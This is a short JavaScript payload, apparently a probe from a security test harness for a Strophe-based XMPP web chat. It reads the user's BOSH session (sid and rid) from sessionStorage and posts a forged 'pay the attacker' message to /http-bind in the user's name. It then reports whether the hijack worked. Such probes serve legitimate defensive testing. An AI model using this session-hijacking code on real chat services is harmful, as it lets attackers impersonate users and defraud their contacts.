// Tries: take the live BOSH session, and speak with its sid and rid as the user.
(() => {
  let clock = setInterval(async () => {
    const found = attempt(() => sessionStorage.getItem("strophe-bosh-session"));
    const session = attempt(() => JSON.parse(found));
    const open = document.body && document.body.innerText.includes("heron flies");
    if (!session || !session.sid || !open) return steal("use-session", `waits: ${found}`);
    clearInterval(clock);
    // The others are to see the conversation too, and this ends the user's own session.
    await new Promise((done) => setTimeout(done, 4000));
    const { sid, rid } = JSON.parse(sessionStorage.getItem("strophe-bosh-session"));
    const message = `<message xmlns="jabber:client" to="bob@chat.test" type="chat"><body>pay the attacker</body></message>`;
    const answer = await fetch("/http-bind", {
      method: "POST",
      headers: { "Content-Type": "text/xml" },
      body: `<body xmlns="http://jabber.org/protocol/httpbind" sid="${sid}" rid="${rid}">${message}</body>`,
    });
    const text = await answer.text();
    steal("use-session", `${text.includes("terminate") ? "was refused" : "spoke as the user"}: ${answer.status} ${text}`);
  }, 300);
})();
